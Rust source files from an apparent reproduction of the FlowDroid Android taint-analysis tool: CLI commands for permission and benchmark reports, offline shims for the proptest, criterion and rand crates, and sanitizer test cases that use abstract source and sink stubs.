            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("{e}");
            ExitCode::FAILURE
        }
    }
}

fn permissions(args: &[String]) -> ExitCode {
    let Some(target) = args.first() else {
        eprintln!("permissions: missing app path");
        return ExitCode::FAILURE;
    };
    let mut program = Program::new();
    let platform = install_platform(&mut program);
    let app = match load_app(target, &mut program) {
        Ok(a) => a,
        Err(e) => {
            eprintln!("{e}");
            return ExitCode::FAILURE;
        }
    };
    let report =
        flowdroid::android::analyze_permissions(&mut program, &platform, &app, "cli-perm");
    println!("required by reachable code:");
    for p in &report.required {
        println!("  {p}");
    }
    println!("declared in the manifest:");
    for p in &report.declared {
        println!("  {p}");
    }
    let over = report.over_privileged();
    if over.is_empty() {
        println!("no over-privilege.");
    } else {
        println!("over-privileged (declared but unused):");
        for p in &over {
            println!("  {p}");
        }
    }
    let missing = report.missing();
    if !missing.is_empty() {
        println!("missing (needed but not declared):");
        for p in &missing {
            println!("  {p}");
        }
    }
    ExitCode::SUCCESS
}

fn pack(args: &[String]) -> ExitCode {
    let (dir, out) = match args {
        [dir, flag, out] if flag == "-o" => (dir, out),
        _ => {
            eprintln!("usage: flowdroid pack <app-dir> -o <app.rpk>");
            return ExitCode::FAILURE;
        }
    };
    let dir = Path::new(dir);
    let mut archive = Archive::new();
    let manifest = dir.join("AndroidManifest.xml");
    match std::fs::read(&manifest) {
        Ok(bytes) => {
            archive.add("AndroidManifest.xml", bytes);
        }
        Err(e) => {
            eprintln!("{}: {e}", manifest.display());
            return ExitCode::FAILURE;
        }
    }
    let layouts = dir.join("res/layout");
    if layouts.is_dir() {
        let entries = match std::fs::read_dir(&layouts) {
            Ok(e) => e,
            Err(e) => {
                eprintln!("{}: {e}", layouts.display());
                return ExitCode::FAILURE;
            }
        };
        for entry in entries.flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if name.ends_with(".xml") {
                if let Ok(bytes) = std::fs::read(entry.path()) {
                    archive.add(format!("res/layout/{name}"), bytes);
                }
            }
        }
    }
    for code in ["classes.jasm", "classes.sdex"] {
        let p = dir.join(code);
        if p.is_file() {
            if let Ok(bytes) = std::fs::read(&p) {
                archive.add(code, bytes);
            }
        }
    }
    match std::fs::write(out, archive.to_bytes()) {
        Ok(()) => {
            println!("packed {} entries into {out}", archive.len());
            ExitCode::SUCCESS
        }
        Err(e) => {
            eprintln!("{out}: {e}");
            ExitCode::FAILURE
        }
    }
}

fn droidbench() -> ExitCode {
    use flowdroid::droidbench::{all_apps, AppScore};
    let mut total = AppScore::default();
    for app in all_apps().iter().filter(|a| a.in_table) {
        let mut program = Program::new();
        let platform = install_platform(&mut program);
        let loaded = app.load(&mut program).expect("suite app");
        let sources = SourceSinkManager::default_android();
        let wrapper = TaintWrapper::default_rules();
        let config = InfoflowConfig::default();
        let analysis = Infoflow::new(&sources, &wrapper, &config)
            .analyze_app(&mut program, &platform, &loaded, "cli");
        let found = analysis.results.leak_count();
        let score = AppScore::from_counts(app.expected_leaks, found);
        println!(
            "{:<28} expected {} reported {} ({}✓ {}☆ {}○)",
            app.name, app.expected_leaks, found, score.tp, score.fp, score.fn_
        );
        total.add(score);
    }
    println!(
        "\nprecision {:.0}%  recall {:.0}%  F {:.2}",
        total.precision() * 100.0,
        total.recall() * 100.0,
        total.f_measure()
    );
    ExitCode::SUCCESS
}
