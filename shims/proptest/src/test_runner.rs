//! Deterministic RNG and run configuration.

/// Per-test configuration (subset of the real `ProptestConfig`).
#[derive(Clone, Debug)]
pub struct ProptestConfig {
    /// Number of generated cases per property.
    pub cases: u32,
}

impl ProptestConfig {
    /// A configuration running `cases` cases.
    pub fn with_cases(cases: u32) -> ProptestConfig {
        ProptestConfig { cases }
    }
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig { cases: 64 }
    }
}

/// SplitMix64 — deterministic, seedable, good enough distribution for
/// test-input generation.
#[derive(Clone, Debug)]
pub struct TestRng {
    state: u64,
}

impl TestRng {
    /// A generator with an explicit seed.
    pub fn new(seed: u64) -> TestRng {
        TestRng { state: seed }
    }

    /// A generator seeded from a test name (FNV-1a), so every property
    /// sees a different but reproducible stream.
    pub fn from_name(name: &str) -> TestRng {
        let mut h = 0xcbf2_9ce4_8422_2325u64;
        for b in name.bytes() {
            h = (h ^ u64::from(b)).wrapping_mul(0x1000_0000_01b3);
        }
        TestRng::new(h)
    }

    /// The next raw 64-bit value.
    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    /// Uniform value in `0..n` (`n` must be nonzero).
    pub fn below(&mut self, n: u64) -> u64 {
        debug_assert!(n > 0);
        self.next_u64() % n
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic_per_seed() {
        let mut a = TestRng::new(7);
        let mut b = TestRng::new(7);
        for _ in 0..16 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
        let mut c = TestRng::new(8);
        assert_ne!(a.next_u64(), c.next_u64());
    }

    #[test]
    fn below_is_in_range() {
        let mut r = TestRng::from_name("below");
        for _ in 0..1000 {
            assert!(r.below(13) < 13);
        }
    }
}
