//! The `Strategy` trait and the built-in strategies the repo's tests
//! use: integer ranges, regex-literal strings, tuples, `Just`, unions
//! and mapping.

use crate::test_runner::TestRng;

/// Generates values of one type from random bits.
pub trait Strategy {
    /// The generated type.
    type Value;

    /// Draws one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    /// Maps generated values through `f`.
    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { inner: self, f }
    }

    /// Type-erases the strategy (used by `prop_oneof!`).
    fn boxed(self) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
    {
        Box::new(self)
    }
}

/// A type-erased strategy.
pub type BoxedStrategy<T> = Box<dyn Strategy<Value = T>>;

impl<T> Strategy for BoxedStrategy<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        (**self).generate(rng)
    }
}

/// Always yields a clone of the given value.
#[derive(Clone, Debug)]
pub struct Just<T: Clone>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;
    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// Maps another strategy's output through a function.
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
    type Value = O;
    fn generate(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

/// Uniform choice among type-erased strategies (`prop_oneof!`).
pub struct Union<T> {
    arms: Vec<BoxedStrategy<T>>,
}

impl<T> Union<T> {
    /// A union over the given arms (must be non-empty).
    pub fn new(arms: Vec<BoxedStrategy<T>>) -> Union<T> {
        assert!(!arms.is_empty(), "prop_oneof! needs at least one arm");
        Union { arms }
    }
}

impl<T> Strategy for Union<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        let i = rng.below(self.arms.len() as u64) as usize;
        self.arms[i].generate(rng)
    }
}

/// Types with a canonical strategy (`any::<T>()`).
pub trait Arbitrary: Sized {
    /// Draws an arbitrary value.
    fn arbitrary_value(rng: &mut TestRng) -> Self;
}

/// The canonical strategy for `T`.
pub struct Any<T>(std::marker::PhantomData<T>);

/// `any::<T>()` — the canonical strategy for `T`.
pub fn any<T: Arbitrary>() -> Any<T> {
    Any(std::marker::PhantomData)
}

impl<T: Arbitrary> Strategy for Any<T> {
    type Value = T;
    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary_value(rng)
    }
}

impl Arbitrary for bool {
    fn arbitrary_value(rng: &mut TestRng) -> bool {
        rng.next_u64() & 1 == 1
    }
}

macro_rules! int_arbitrary {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary_value(rng: &mut TestRng) -> $t {
                rng.next_u64() as $t
            }
        }
    )*};
}
int_arbitrary!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for std::ops::Range<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                assert!(!self.is_empty(), "empty range strategy");
                let span = self.end.abs_diff(self.start) as u64;
                self.start.wrapping_add(rng.below(span) as $t)
            }
        }
        impl Strategy for std::ops::RangeInclusive<$t> {
            type Value = $t;
            fn generate(&self, rng: &mut TestRng) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "empty range strategy");
                let span = hi.abs_diff(lo) as u64;
                let off = if span == u64::MAX { rng.next_u64() } else { rng.below(span + 1) };
                lo.wrapping_add(off as $t)
            }
        }
    )*};
}
range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

macro_rules! tuple_strategy {
    ($($s:ident),+) => {
        impl<$($s: Strategy),+> Strategy for ($($s,)+) {
            type Value = ($($s::Value,)+);
            #[allow(non_snake_case)]
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                let ($($s,)+) = self;
                ($($s.generate(rng),)+)
            }
        }
    };
}
tuple_strategy!(A);
tuple_strategy!(A, B);
tuple_strategy!(A, B, C);
tuple_strategy!(A, B, C, D);
tuple_strategy!(A, B, C, D, E);
tuple_strategy!(A, B, C, D, E, F);

/// String-literal strategies interpret a small regex subset: a sequence
/// of atoms (`.` = printable ASCII, `[a-z0-9_]` character classes with
/// ranges, or a literal character), each with an optional `{m}` /
/// `{m,n}` repetition.
impl Strategy for &'static str {
    type Value = String;
    fn generate(&self, rng: &mut TestRng) -> String {
        generate_from_pattern(self, rng)
    }
}

enum Atom {
    AnyPrintable,
    Class(Vec<(char, char)>),
    Literal(char),
}

fn generate_from_pattern(pattern: &str, rng: &mut TestRng) -> String {
    let mut out = String::new();
    let chars: Vec<char> = pattern.chars().collect();
    let mut i = 0;
    while i < chars.len() {
        let atom = match chars[i] {
            '.' => {
                i += 1;
                Atom::AnyPrintable
            }
            '[' => {
                let close = chars[i..]
                    .iter()
                    .position(|&c| c == ']')
                    .unwrap_or_else(|| panic!("unclosed [ in pattern {pattern:?}"));
                let inner = &chars[i + 1..i + close];
                i += close + 1;
                let mut ranges = Vec::new();
                let mut j = 0;
                while j < inner.len() {
                    if j + 2 < inner.len() && inner[j + 1] == '-' {
                        ranges.push((inner[j], inner[j + 2]));
                        j += 3;
                    } else {
                        ranges.push((inner[j], inner[j]));
                        j += 1;
                    }
                }
                Atom::Class(ranges)
            }
            '\\' => {
                i += 1;
                let c = chars.get(i).copied().unwrap_or('\\');
                i += 1;
                Atom::Literal(c)
            }
            c => {
                i += 1;
                Atom::Literal(c)
            }
        };
        let (min, max) = if chars.get(i) == Some(&'{') {
            let close = chars[i..]
                .iter()
                .position(|&c| c == '}')
                .unwrap_or_else(|| panic!("unclosed {{ in pattern {pattern:?}"));
            let spec: String = chars[i + 1..i + close].iter().collect();
            i += close + 1;
            match spec.split_once(',') {
                Some((m, n)) => (
                    m.trim().parse::<usize>().expect("repetition min"),
                    n.trim().parse::<usize>().expect("repetition max"),
                ),
                None => {
                    let m = spec.trim().parse::<usize>().expect("repetition count");
                    (m, m)
                }
            }
        } else {
            (1, 1)
        };
        let n = min + rng.below((max - min + 1) as u64) as usize;
        for _ in 0..n {
            out.push(match &atom {
                Atom::AnyPrintable => char::from(32 + rng.below(95) as u8),
                Atom::Class(ranges) => {
                    let (lo, hi) = ranges[rng.below(ranges.len() as u64) as usize];
                    char::from_u32(lo as u32 + rng.below((hi as u32 - lo as u32 + 1) as u64) as u32)
                        .unwrap_or(lo)
                }
                Atom::Literal(c) => *c,
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn patterns_generate_matching_strings() {
        let mut rng = TestRng::from_name("patterns");
        for _ in 0..200 {
            let s = Strategy::generate(&"[a-z]{1,6}", &mut rng);
            assert!((1..=6).contains(&s.len()), "{s:?}");
            assert!(s.chars().all(|c| c.is_ascii_lowercase()), "{s:?}");

            let d = Strategy::generate(&"[0-9]{1,4}", &mut rng);
            assert!((1..=4).contains(&d.len()));
            assert!(d.chars().all(|c| c.is_ascii_digit()));

            let p = Strategy::generate(&".{0,256}", &mut rng);
            assert!(p.len() <= 256);
        }
    }

    #[test]
    fn ranges_and_tuples() {
        let mut rng = TestRng::from_name("ranges");
        for _ in 0..500 {
            let v = (0u32..4, 1usize..6).generate(&mut rng);
            assert!(v.0 < 4 && (1..6).contains(&v.1));
        }
    }

    #[test]
    fn union_hits_every_arm() {
        let u = crate::prop_oneof![Just(1u8), Just(2u8), Just(3u8)];
        let mut rng = TestRng::from_name("union");
        let mut seen = [false; 4];
        for _ in 0..100 {
            seen[u.generate(&mut rng) as usize] = true;
        }
        assert!(seen[1] && seen[2] && seen[3]);
    }
}
