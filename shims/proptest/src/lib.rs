//! Offline stand-in for the `proptest` crate.
//!
//! The build environment has no crates.io access, so the real proptest
//! cannot be fetched; this shim is substituted via `[patch.crates-io]`
//! in the workspace manifest. It implements the API subset this
//! repository's property tests use — `proptest!`, `prop_assert*!`,
//! `prop_oneof!`, `any::<T>()`, integer-range and regex-literal
//! strategies, tuples, `Just`, `prop_map` and `collection::vec` — on
//! top of a deterministic SplitMix64 generator. There is no shrinking:
//! a failing case panics with the generated inputs Debug-printed by the
//! assertion itself.

pub mod strategy;
pub mod test_runner;

/// Value-generation strategies (subset of `proptest::collection`).
pub mod collection {
    use crate::strategy::Strategy;
    use crate::test_runner::TestRng;

    /// Size specification for [`vec`]: a fixed size or a range.
    pub trait SizeRange {
        /// Draws a length from the range.
        fn pick(&self, rng: &mut TestRng) -> usize;
    }

    impl SizeRange for usize {
        fn pick(&self, _rng: &mut TestRng) -> usize {
            *self
        }
    }

    impl SizeRange for std::ops::Range<usize> {
        fn pick(&self, rng: &mut TestRng) -> usize {
            if self.is_empty() {
                self.start
            } else {
                self.start + rng.below((self.end - self.start) as u64) as usize
            }
        }
    }

    impl SizeRange for std::ops::RangeInclusive<usize> {
        fn pick(&self, rng: &mut TestRng) -> usize {
            let (lo, hi) = (*self.start(), *self.end());
            lo + rng.below((hi - lo + 1) as u64) as usize
        }
    }

    /// Strategy for `Vec<T>` with element strategy `S` and length drawn
    /// from `R`.
    pub struct VecStrategy<S, R> {
        element: S,
        size: R,
    }

    /// Generates vectors whose elements come from `element` and whose
    /// length is drawn from `size`.
    pub fn vec<S: Strategy, R: SizeRange>(element: S, size: R) -> VecStrategy<S, R> {
        VecStrategy { element, size }
    }

    impl<S: Strategy, R: SizeRange> Strategy for VecStrategy<S, R> {
        type Value = Vec<S::Value>;
        fn generate(&self, rng: &mut TestRng) -> Vec<S::Value> {
            let n = self.size.pick(rng);
            (0..n).map(|_| self.element.generate(rng)).collect()
        }
    }
}

/// The usual glob-import surface.
pub mod prelude {
    pub use crate::strategy::{any, Just, Strategy};
    pub use crate::test_runner::ProptestConfig;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest};
}

/// Asserts a condition inside a `proptest!` body.
#[macro_export]
macro_rules! prop_assert {
    ($($t:tt)*) => { assert!($($t)*) };
}

/// Asserts equality inside a `proptest!` body.
#[macro_export]
macro_rules! prop_assert_eq {
    ($($t:tt)*) => { assert_eq!($($t)*) };
}

/// Asserts inequality inside a `proptest!` body.
#[macro_export]
macro_rules! prop_assert_ne {
    ($($t:tt)*) => { assert_ne!($($t)*) };
}

/// Picks uniformly among the given strategies (all must share one value
/// type). Weighted arms are not supported.
#[macro_export]
macro_rules! prop_oneof {
    ($($s:expr),+ $(,)?) => {
        $crate::strategy::Union::new(vec![
            $($crate::strategy::Strategy::boxed($s)),+
        ])
    };
}

/// Declares property tests: each `fn name(arg in strategy, ...) { .. }`
/// becomes a `#[test]` that runs the body over `cases` generated
/// inputs (seeded deterministically from the test name).
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::proptest!(@funcs ($cfg); $($rest)*);
    };
    (@funcs ($cfg:expr);) => {};
    (@funcs ($cfg:expr);
        $(#[$meta:meta])*
        fn $name:ident($($arg:ident in $strat:expr),* $(,)?) $body:block
        $($rest:tt)*
    ) => {
        $(#[$meta])*
        fn $name() {
            let config: $crate::test_runner::ProptestConfig = $cfg;
            let mut rng = $crate::test_runner::TestRng::from_name(stringify!($name));
            for _case in 0..config.cases {
                $(let $arg = $crate::strategy::Strategy::generate(&($strat), &mut rng);)*
                $body
            }
        }
        $crate::proptest!(@funcs ($cfg); $($rest)*);
    };
    ($($rest:tt)*) => {
        $crate::proptest!(@funcs ($crate::test_runner::ProptestConfig::default()); $($rest)*);
    };
}
