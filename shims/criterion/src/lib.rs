//! Offline stand-in for the `criterion` benchmark harness (substituted
//! via `[patch.crates-io]`; the build environment has no crates.io
//! access).
//!
//! Implements the subset the repo's benches use — `Criterion`,
//! `bench_function`, `benchmark_group` / `bench_with_input`,
//! `BenchmarkId`, `black_box` and the `criterion_group!` /
//! `criterion_main!` macros — with a simple wall-clock measurement
//! loop: per benchmark it warms up, then runs `sample_size` samples
//! within the configured measurement time and prints min/mean/max.

use std::time::{Duration, Instant};

/// Re-export of `std::hint::black_box`.
pub fn black_box<T>(x: T) -> T {
    std::hint::black_box(x)
}

/// Benchmark runner configuration + entry points.
#[derive(Clone, Debug)]
pub struct Criterion {
    sample_size: usize,
    warm_up_time: Duration,
    measurement_time: Duration,
}

impl Default for Criterion {
    fn default() -> Self {
        Criterion {
            sample_size: 10,
            warm_up_time: Duration::from_millis(300),
            measurement_time: Duration::from_secs(2),
        }
    }
}

impl Criterion {
    /// Sets the number of measured samples.
    pub fn sample_size(mut self, n: usize) -> Self {
        self.sample_size = n.max(1);
        self
    }

    /// Sets the warm-up duration.
    pub fn warm_up_time(mut self, d: Duration) -> Self {
        self.warm_up_time = d;
        self
    }

    /// Sets the measurement budget.
    pub fn measurement_time(mut self, d: Duration) -> Self {
        self.measurement_time = d;
        self
    }

    /// Runs one benchmark.
    pub fn bench_function<F>(&mut self, name: &str, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        run_bench(self, name, &mut f);
        self
    }

    /// Opens a named group of benchmarks.
    pub fn benchmark_group(&mut self, name: &str) -> BenchmarkGroup<'_> {
        BenchmarkGroup { c: self, name: name.to_owned() }
    }
}

/// A parameterized benchmark name.
#[derive(Clone, Debug)]
pub struct BenchmarkId {
    id: String,
}

impl BenchmarkId {
    /// `name/parameter`.
    pub fn new(name: impl Into<String>, parameter: impl std::fmt::Display) -> BenchmarkId {
        BenchmarkId { id: format!("{}/{}", name.into(), parameter) }
    }
}

/// A group of related benchmarks sharing a name prefix.
pub struct BenchmarkGroup<'a> {
    c: &'a mut Criterion,
    name: String,
}

impl BenchmarkGroup<'_> {
    /// Runs one benchmark in the group.
    pub fn bench_function<F>(&mut self, id: impl Into<String>, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let full = format!("{}/{}", self.name, id.into());
        run_bench(self.c, &full, &mut f);
        self
    }

    /// Runs one benchmark with an input value.
    pub fn bench_with_input<I, F>(&mut self, id: BenchmarkId, input: &I, mut f: F) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        let full = format!("{}/{}", self.name, id.id);
        run_bench(self.c, &full, &mut |b: &mut Bencher| f(b, input));
        self
    }

    /// Ends the group.
    pub fn finish(self) {}
}

/// Passed to the measured closure; call [`Bencher::iter`].
pub struct Bencher {
    mode: Mode,
    /// Total time spent inside `iter` bodies and iterations run, for
    /// the enclosing sample loop.
    elapsed: Duration,
    iters: u64,
}

enum Mode {
    WarmUp,
    Measure,
}

impl Bencher {
    /// Runs the measured routine once per iteration.
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut f: F) {
        let n = match self.mode {
            Mode::WarmUp => 1,
            Mode::Measure => 1,
        };
        let start = Instant::now();
        for _ in 0..n {
            black_box(f());
        }
        self.elapsed += start.elapsed();
        self.iters += n;
    }
}

fn run_bench(c: &Criterion, name: &str, f: &mut dyn FnMut(&mut Bencher)) {
    // Warm-up: run until the warm-up budget is spent (at least once).
    let warm_start = Instant::now();
    loop {
        let mut b = Bencher { mode: Mode::WarmUp, elapsed: Duration::ZERO, iters: 0 };
        f(&mut b);
        if warm_start.elapsed() >= c.warm_up_time {
            break;
        }
    }
    // Measurement: `sample_size` samples, capped by the time budget.
    let mut samples = Vec::with_capacity(c.sample_size);
    let measure_start = Instant::now();
    for _ in 0..c.sample_size {
        let mut b = Bencher { mode: Mode::Measure, elapsed: Duration::ZERO, iters: 0 };
        f(&mut b);
        if b.iters > 0 {
            samples.push(b.elapsed / b.iters as u32);
        }
        if measure_start.elapsed() >= c.measurement_time {
            break;
        }
    }
    if samples.is_empty() {
        println!("{name:<44} no samples");
        return;
    }
    let min = samples.iter().min().copied().unwrap_or_default();
    let max = samples.iter().max().copied().unwrap_or_default();
    let mean = samples.iter().sum::<Duration>() / samples.len() as u32;
    println!(
        "{name:<44} time: [{min:>10.2?} {mean:>10.2?} {max:>10.2?}]  ({} samples)",
        samples.len()
    );
}

/// Declares a benchmark group function.
#[macro_export]
macro_rules! criterion_group {
    (name = $name:ident; config = $config:expr; targets = $($target:path),+ $(,)?) => {
        pub fn $name() {
            let mut c: $crate::Criterion = $config;
            $($target(&mut c);)+
        }
    };
    ($name:ident, $($target:path),+ $(,)?) => {
        $crate::criterion_group!(
            name = $name;
            config = $crate::Criterion::default();
            targets = $($target),+
        );
    };
}

/// Declares the benchmark binary's `main`.
#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bench_function_runs_and_prints() {
        let mut c = Criterion::default()
            .sample_size(3)
            .warm_up_time(Duration::from_millis(1))
            .measurement_time(Duration::from_millis(10));
        let mut runs = 0u32;
        c.bench_function("shim/self_test", |b| b.iter(|| runs += 1));
        assert!(runs > 0);
    }

    #[test]
    fn group_ids_compose() {
        let id = BenchmarkId::new("inner", 7);
        assert_eq!(id.id, "inner/7");
    }
}
