//! Offline stand-in for the `rand` crate (substituted via
//! `[patch.crates-io]`; the build environment has no crates.io access).
//!
//! Implements the subset the repository uses: `rngs::StdRng`,
//! `SeedableRng::seed_from_u64` and `Rng::gen_range` over integer
//! ranges. The generator is SplitMix64 — deterministic per seed, which
//! is all the corpus generator requires (it does not promise the same
//! stream as the real `StdRng`).

/// Concrete generator types.
pub mod rngs {
    /// The standard deterministic generator (SplitMix64 here).
    #[derive(Clone, Debug)]
    pub struct StdRng {
        pub(crate) state: u64,
    }
}

use rngs::StdRng;

/// Seedable construction (subset).
pub trait SeedableRng: Sized {
    /// Creates a generator from a 64-bit seed.
    fn seed_from_u64(seed: u64) -> Self;
}

impl SeedableRng for StdRng {
    fn seed_from_u64(seed: u64) -> StdRng {
        StdRng { state: seed }
    }
}

/// Core entropy source.
pub trait RngCore {
    /// The next raw 64-bit value.
    fn next_u64(&mut self) -> u64;
}

impl RngCore for StdRng {
    fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }
}

/// High-level sampling methods.
pub trait Rng: RngCore {
    /// Uniform value from a (non-empty) integer range.
    fn gen_range<T, R: SampleRange<T>>(&mut self, range: R) -> T
    where
        Self: Sized,
    {
        range.sample_single(self)
    }
}

impl<R: RngCore> Rng for R {}

/// Ranges that can be sampled uniformly.
pub trait SampleRange<T> {
    /// Draws one value from the range.
    fn sample_single<R: Rng>(self, rng: &mut R) -> T;
}

macro_rules! impl_sample_range {
    ($($t:ty),*) => {$(
        impl SampleRange<$t> for std::ops::Range<$t> {
            fn sample_single<R: Rng>(self, rng: &mut R) -> $t {
                assert!(!self.is_empty(), "cannot sample empty range");
                let span = self.end.abs_diff(self.start) as u64;
                self.start.wrapping_add((rng.next_u64() % span) as $t)
            }
        }
        impl SampleRange<$t> for std::ops::RangeInclusive<$t> {
            fn sample_single<R: Rng>(self, rng: &mut R) -> $t {
                let (lo, hi) = (*self.start(), *self.end());
                assert!(lo <= hi, "cannot sample empty range");
                let span = hi.abs_diff(lo) as u64;
                let off = if span == u64::MAX {
                    rng.next_u64()
                } else {
                    rng.next_u64() % (span + 1)
                };
                lo.wrapping_add(off as $t)
            }
        }
    )*};
}
impl_sample_range!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn seeded_streams_are_deterministic() {
        let mut a = StdRng::seed_from_u64(42);
        let mut b = StdRng::seed_from_u64(42);
        for _ in 0..32 {
            assert_eq!(a.next_u64(), b.next_u64());
        }
    }

    #[test]
    fn gen_range_bounds() {
        let mut r = StdRng::seed_from_u64(7);
        for _ in 0..1000 {
            let x: usize = r.gen_range(8..28);
            assert!((8..28).contains(&x));
            let y = r.gen_range(0..=2);
            assert!((0..=2).contains(&y));
            let z: i64 = r.gen_range(-5..=5);
            assert!((-5..=5).contains(&z));
        }
    }
}
