//! The paper omitted SecuriBench Micro's *Sanitizers* group because
//! FlowDroid had no sanitizer support ("we omitted from our experiments
//! test cases involving sanitization", §6.4). The reproduction adds the
//! `_SANITIZER_` role, so this bonus group exercises those shapes: each
//! case either fully sanitizes the flow (0 leaks) or leaves an
//! unsanitized path (1 leak).

use flowdroid_core::{Infoflow, InfoflowConfig, SourceSinkManager, TaintWrapper};
use flowdroid_frontend::layout::ResourceTable;
use flowdroid_frontend::parse_jasm;
use flowdroid_ir::Program;

const ENV: &str = r#"
class sb.Env {
  static native method source() -> java.lang.String
  static native method sink(s: java.lang.String) -> void
  static native method clean(s: java.lang.String) -> java.lang.String
}
"#;

const DEFS: &str = "\
<sb.Env: java.lang.String source()> -> _SOURCE_\n\
<sb.Env: void sink(java.lang.String)> -> _SINK_\n\
<sb.Env: java.lang.String clean(java.lang.String)> -> _SANITIZER_\n";

fn run(code: &str, entry_class: &str) -> usize {
    let mut p = Program::new();
    flowdroid_android::install_platform(&mut p);
    let rt = ResourceTable::new();
    parse_jasm(&mut p, &rt, ENV).unwrap();
    parse_jasm(&mut p, &rt, code).unwrap_or_else(|e| panic!("{e}"));
    let sources = SourceSinkManager::parse(DEFS).unwrap();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let main = p.find_method(entry_class, "main").unwrap();
    Infoflow::new(&sources, &wrapper, &config).run(&p, &[main]).leak_count()
}

#[test]
fn fully_sanitized_flow() {
    let found = run(
        r#"
class sb.San0 {
  static method main() -> void {
    let s: java.lang.String
    let c: java.lang.String
    s = staticinvoke <sb.Env: java.lang.String source()>()
    c = staticinvoke <sb.Env: java.lang.String clean(java.lang.String)>(s)
    staticinvoke <sb.Env: void sink(java.lang.String)>(c)
    return
  }
}
"#,
        "sb.San0",
    );
    assert_eq!(found, 0);
}

#[test]
fn one_branch_unsanitized() {
    let found = run(
        r#"
class sb.San1 {
  static method main() -> void {
    let s: java.lang.String
    let v: java.lang.String
    s = staticinvoke <sb.Env: java.lang.String source()>()
    if opaque goto raw
    v = staticinvoke <sb.Env: java.lang.String clean(java.lang.String)>(s)
    goto out
  label raw:
    v = s
  label out:
    staticinvoke <sb.Env: void sink(java.lang.String)>(v)
    return
  }
}
"#,
        "sb.San1",
    );
    assert_eq!(found, 1, "the raw branch still leaks");
}

#[test]
fn sanitized_then_reconcatenated_with_taint() {
    let found = run(
        r#"
class sb.San2 {
  static method main() -> void {
    let s: java.lang.String
    let c: java.lang.String
    let v: java.lang.String
    s = staticinvoke <sb.Env: java.lang.String source()>()
    c = staticinvoke <sb.Env: java.lang.String clean(java.lang.String)>(s)
    v = c + s
    staticinvoke <sb.Env: void sink(java.lang.String)>(v)
    return
  }
}
"#,
        "sb.San2",
    );
    assert_eq!(found, 1, "mixing sanitized and raw data leaks");
}

#[test]
fn sanitization_in_a_helper_method() {
    let found = run(
        r#"
class sb.San3 {
  static method scrub(x: java.lang.String) -> java.lang.String {
    let r: java.lang.String
    r = staticinvoke <sb.Env: java.lang.String clean(java.lang.String)>(x)
    return r
  }
  static method main() -> void {
    let s: java.lang.String
    let v: java.lang.String
    s = staticinvoke <sb.Env: java.lang.String source()>()
    v = staticinvoke <sb.San3: java.lang.String scrub(java.lang.String)>(s)
    staticinvoke <sb.Env: void sink(java.lang.String)>(v)
    return
  }
}
"#,
        "sb.San3",
    );
    assert_eq!(found, 0, "sanitization through a helper call");
}

#[test]
fn sanitizing_a_field_copy_only() {
    let found = run(
        r#"
class sb.Box { field v: java.lang.String }
class sb.San4 {
  static method main() -> void {
    let s: java.lang.String
    let c: java.lang.String
    let t: java.lang.String
    let b: sb.Box
    b = new sb.Box
    s = staticinvoke <sb.Env: java.lang.String source()>()
    b.v = s
    c = staticinvoke <sb.Env: java.lang.String clean(java.lang.String)>(s)
    t = b.v
    staticinvoke <sb.Env: void sink(java.lang.String)>(t)
    return
  }
}
"#,
        "sb.San4",
    );
    assert_eq!(found, 1, "the stored copy was never sanitized");
}
