//! Table 2 reproduction: the analysis must score exactly the paper's
//! per-group TP/FP numbers on the generated SecuriBench-Micro-style
//! suite (117/121 TP, 9 FP overall).

use flowdroid_core::{Infoflow, InfoflowConfig, SourceSinkManager, TaintWrapper};
